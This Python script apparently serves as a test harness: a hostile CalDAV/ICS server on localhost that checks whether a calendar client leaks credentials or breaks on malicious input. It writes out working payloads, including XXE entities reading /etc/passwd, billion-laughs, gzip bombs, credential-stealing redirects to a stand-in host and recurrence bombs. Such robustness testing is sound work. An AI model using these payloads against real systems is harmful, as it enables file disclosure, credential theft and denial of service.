#!/usr/bin/env python3
"""evil-dav.py PORT MODE --other PORT2: a hostile CalDAV and ICS server on 127.0.0.1.

A second listener on PORT2 plays another host: any Authorization or Cookie header that reaches it is
a leak. Prints a line of JSON a request; {"leak": true} when that happened.

  redirect-port     302 to the other port: the credential must not follow
  redirect-file     302 to file:///etc/passwd
  redirect-loop     302 to itself for ever
  href-offsite      a multistatus whose hrefs point at the other port
  principal-offsite the principal and the home set at the other port
  xxe               a multistatus with an external entity, a file and one at the other port
  laughs            billion laughs
  quad              quadratic blow-up
  deepxml           elements nested 200,000 deep
  manyattr          one element with 200,000 attributes
  gzip              1 MB that unpacks to 1 GB
  gzip2             the same, packed twice
  endless           a chunked body that never ends
  huge              Content-Length 2^40, trickling
  short             a body shorter than its Content-Length
  loop401           401 for ever
  throttle          429 with Retry-After: 999999999
  ics-bomb          a calendar of recurrence bombs
  ics-lines         one line of 64 MB
  html              a web page where XML was due
  empty             200 and no body

As above for a REPORT only, behind a calendar that is found as it should be:

  report-MODE       any of the modes above
  report-bomb       one event whose lines are the recurrence bombs
  report-large      one event of 64 MB
  report-many       the ETag of an event after another for ever
  report-elsewhere  events at the other port
"""
import argparse
import gzip
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from xml.sax.saxutils import escape

parser = argparse.ArgumentParser(usage=__doc__)
parser.add_argument("port", type=int)
parser.add_argument("mode")
parser.add_argument("--other", type=int, required=True)
options = parser.parse_args()
other = options.other
there = f"http://127.0.0.1:{other}"


def multistatus(body, before=""):
    names = 'xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"'
    text = f'<?xml version="1.0"?>{before}<D:multistatus {names}>{body}</D:multistatus>'
    return text.encode()


def response(href, prop):
    return (
        f"<D:response><D:href>{href}</D:href><D:propstat><D:prop>{prop}</D:prop>"
        "<D:status>HTTP/1.1 200 OK</D:status></D:propstat></D:response>"
    )


def event(uid, rule, extra=""):
    return (
        f"BEGIN:VEVENT\r\nUID:{uid}\r\nDTSTAMP:20260101T000000Z\r\nDTSTART:19700101T000000Z\r\n"
        f"DTEND:19700101T003000Z\r\nSUMMARY:{uid}\r\n{rule}\r\n{extra}END:VEVENT\r\n"
    )


def numbers(end, begin=0):
    return ",".join(map(str, range(begin, end)))


def bombs(dates):
    return {
        "secondly": "RRULE:FREQ=SECONDLY",
        "secondly-count": "RRULE:FREQ=SECONDLY;COUNT=1000000000",
        "daily-1e9": "RRULE:FREQ=DAILY;COUNT=1000000000",
        "until-9999": "RRULE:FREQ=MINUTELY;UNTIL=99991231T235959Z",
        "interval-huge": "RRULE:FREQ=YEARLY;INTERVAL=2147483647",
        "interval-0": "RRULE:FREQ=DAILY;INTERVAL=0",
        "never": "RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30",
        "never2": "RRULE:FREQ=MONTHLY;BYMONTHDAY=31;BYMONTH=2,4,6;BYSETPOS=400",
        "cross": f"RRULE:FREQ=YEARLY;COUNT=1;BYMONTH={numbers(13, 1)};BYMONTHDAY={numbers(32, 1)};"
        f"BYHOUR={numbers(24)};BYMINUTE={numbers(60)};BYSECOND={numbers(60)}",
        "rules-1000": "\r\n".join(["RRULE:FREQ=HOURLY"] * 1000),
        "rdates": "RDATE:" + ",".join(["19700101T000000Z"] * dates),
        "exdates": "RRULE:FREQ=DAILY\r\nEXDATE:" + ",".join(["19700102T000000Z"] * dates),
        "bysetpos": "RRULE:FREQ=MONTHLY;BYDAY=MO,TU,WE,TH,FR;BYSETPOS=-366",
        "neg-count": "RRULE:FREQ=DAILY;COUNT=-1",
        "overflow": "RRULE:FREQ=DAILY;COUNT=99999999999999999999",
        "duration": "RRULE:FREQ=DAILY\r\nDURATION:P999999999W",
    }


def ics_bomb(crowd=100000, dates=200000):
    lines = ["BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//y//EN\r\nBEGIN:VTIMEZONE\r\nTZID:Evil\r\n"]
    for i in range(500):
        lines.append(
            f"BEGIN:STANDARD\r\nDTSTART:1970010{i % 9 + 1}T000000\r\nTZOFFSETFROM:+0100\r\n"
            "TZOFFSETTO:+0000\r\nRRULE:FREQ=SECONDLY\r\nEND:STANDARD\r\n"
        )
    lines.append("END:VTIMEZONE\r\n")
    lines += [event(uid, rule) for uid, rule in bombs(dates).items()]
    crowd = "".join(f'ATTENDEE;CN="a{i}":mailto:a{i}@example.org\r\n' for i in range(crowd))
    lines.append(event("attendees", "RRULE:FREQ=WEEKLY", crowd))
    lines.append("BEGIN:VEVENT\r\n" * 5000 + "END:VEVENT\r\n" * 5000)
    lines.append("END:VCALENDAR\r\n")
    return "".join(lines)


def with_data(name, ics):
    lines = f'<D:getetag>"1"</D:getetag><C:calendar-data>{ics}</C:calendar-data>'
    return response(f"/dav/{name}.ics", lines)


class Evil(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def any(self):
        port = self.server.server_port
        shown = [name for name in ("Authorization", "Cookie") if self.headers.get(name)]
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        leak = port == other and bool(shown)
        told = {"port": port, "method": self.command, "path": self.path[:100], "leak": leak}
        print(json.dumps(told), flush=True)
        if port == other:
            return self.fine(b"<x/>", "text/xml")
        mode = options.mode
        if mode.startswith("report-"):
            if self.command != "REPORT":
                kind = "<D:resourcetype><D:collection/><C:calendar/></D:resourcetype>"
                return self.xml(multistatus(response("/dav/", kind)))
            mode = mode.removeprefix("report-")
        return self.lie(mode)

    def lie(self, mode):
        if mode == "redirect-port":
            return self.to(f"{there}/stolen")
        if mode == "redirect-file":
            return self.to("file:///etc/passwd")
        if mode == "redirect-loop":
            return self.to(self.path)
        if mode == "loop401":
            return self.refuse(401, "WWW-Authenticate", 'Basic realm="x"')
        if mode == "throttle":
            return self.refuse(429, "Retry-After", "999999999")
        if mode in ("href-offsite", "elsewhere"):
            tag = "<D:getetag>1</D:getetag>"
            hrefs = [f"{there}/cal/1.ics", f"//127.0.0.1:{other}/cal/2.ics", "/cal/../../etc/passwd"]
            return self.xml(multistatus("".join(response(href, tag) for href in hrefs)))
        if mode == "principal-offsite":
            principal = f"<D:href>{there}/p/</D:href>"
            return self.xml(multistatus(response("/", (
                f"<D:current-user-principal>{principal}</D:current-user-principal>"
                f"<C:calendar-home-set><D:href>{there}/h/</D:href></C:calendar-home-set>"
            ))))
        if mode == "xxe":
            entities = f'<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{there}/xxe">'
            name = response("/&x;&y;", "<D:displayname>&x;</D:displayname>")
            return self.xml(multistatus(name, f"<!DOCTYPE m [{entities}]>"))
        if mode == "laughs":
            more = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
            name = response("/", "<D:displayname>&l9;</D:displayname>")
            return self.xml(multistatus(name, f'<!DOCTYPE m [<!ENTITY l0 "lol">{more}]>'))
        if mode == "quad":
            entity = f'<!DOCTYPE m [<!ENTITY a "{"a" * 50000}">]>'
            return self.xml(multistatus(response("/", "&a;" * 50000), entity))
        if mode == "deepxml":
            return self.xml(multistatus("<a>" * 200000 + "</a>" * 200000))
        if mode == "manyattr":
            return self.xml(multistatus("<a " + " ".join(f'b{i}="1"' for i in range(200000)) + "/>"))
        if mode in ("gzip", "gzip2"):
            body, coding = gzip.compress(b"\0" * (1 << 20), 9) * 1024, "gzip"
            if mode == "gzip2":
                body, coding = gzip.compress(body, 9), "gzip, gzip"
            return self.fine(body, "text/xml", ("Content-Encoding", coding))
        if mode == "endless":
            self.begin(("Transfer-Encoding", "chunked"))
            while True:
                self.wfile.write(b"10000\r\n" + b"<a/> " * 13107 + b" " + b"\r\n")
        if mode == "many":
            self.begin(("Connection", "close"))
            self.close_connection = True
            head, _ = multistatus("|").split(b"|")
            self.wfile.write(head)
            for i in range(1 << 40):
                self.wfile.write(response(f"/dav/{i}", "<D:getetag>1</D:getetag>").encode())
        if mode == "huge":
            self.begin(("Content-Length", str(1 << 40)))
            while True:
                self.wfile.write(b" " * 1000)
                time.sleep(0.01)
        if mode == "short":
            self.begin(("Content-Length", "100000"))
            self.wfile.write(multistatus("")[:60])
            self.close_connection = True
            return None
        if mode == "ics-bomb":
            return self.fine(ics_bomb().encode(), "text/calendar")
        if mode == "bomb":
            return self.xml(multistatus(with_data("bomb", escape(ics_bomb(50000, 100000)))))
        if mode == "large":
            line = "X-A:" + "a" * (64 << 20)
            return self.xml(multistatus(with_data("large", f"BEGIN:VCALENDAR\r\n{line}\r\n")))
        if mode == "ics-lines":
            line = b"X-A:" + b"a" * (64 << 20)
            return self.fine(b"BEGIN:VCALENDAR\r\n" + line + b"\r\nEND:VCALENDAR\r\n", "text/calendar")
        if mode == "html":
            return self.fine(b"<html><body>captive portal<script>1</script>", "text/html")
        if mode == "empty":
            return self.fine(b"", "text/xml")
        raise SystemExit(f"no mode {mode}")

    def begin(self, *fields):
        self.send_response(207)
        self.send_header("Content-Type", "text/xml")
        for field in fields:
            self.send_header(*field)
        self.end_headers()

    def fine(self, body, kind, *fields):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for field in fields:
            self.send_header(*field)
        self.end_headers()
        self.wfile.write(body)

    def xml(self, body):
        self.begin(("Content-Length", str(len(body))))
        self.wfile.write(body)

    def to(self, place):
        self.refuse(302, "Location", place)

    def refuse(self, status, name, value):
        self.send_response(status)
        self.send_header(name, value)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def __getattr__(self, name):
        if name.startswith("do_"):
            return self.any
        raise AttributeError(name)


class Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, *_):
        pass


elsewhere = Server(("127.0.0.1", other), Evil)
threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
here = Server(("127.0.0.1", options.port), Evil)
print(json.dumps({"ready": options.port}), flush=True)
here.serve_forever()
